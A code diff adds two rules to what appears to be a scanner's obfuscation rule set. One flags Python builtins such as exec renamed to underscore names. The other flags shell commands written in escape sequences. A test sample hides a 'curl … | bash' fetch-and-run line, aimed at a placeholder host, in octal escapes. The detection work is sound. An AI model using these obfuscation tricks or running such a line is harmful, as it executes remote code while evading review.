@@ -461,5 +461,27 @@ export const obfuscation: RuleSet = {
       ],
       misses: [py('for c in Base.__subclasses__():\n    register(c)'), go('x := 1'), sh('echo'), rb('1'), cs('int x;')],
     },
+    {
+      id: id('renamed-builtins'),
+      severity: 'high',
+      why: 'Imports what evaluates text under a name of underscores or look-alike letters.',
+      when: is(
+        ['from builtins import'],
+        /from builtins import\s[^\n]{0,160}?\b(?:exec|eval|compile|__import__)\s+as\s+(?:_{3,}|[Il1O0_]{4,})(?!\w)/,
+        { families: ['py'] },
+      ),
+      matches: [py('from builtins import all,dir,exec as ____,chr as __')],
+      misses: [py('from builtins import str, exec as run')],
+    },
+    {
+      id: id('shell-escaped-command'),
+      severity: 'high',
+      why: 'Spells the name of a command in escapes, so that nobody finds it by looking for it.',
+      when: is(["$'\\"], /(?<=(?:^|[\n|;&(])\s{0,4})\$'(?:\\(?:[0-7]{3}|x[0-9a-f]{2})){2,}'(?=\s)/i, {
+        families: ['sh'],
+      }),
+      matches: [sh(String.raw`$'\143\165\162\154' -s http://x.example.invalid | $'\142\141\163\150'`)],
+      misses: [sh(String.raw`echo $'\033[1m'"$title"$'\033[0m'`), sh(String.raw`IFS=$'\n\t'`)],
+    },
   ],
 }
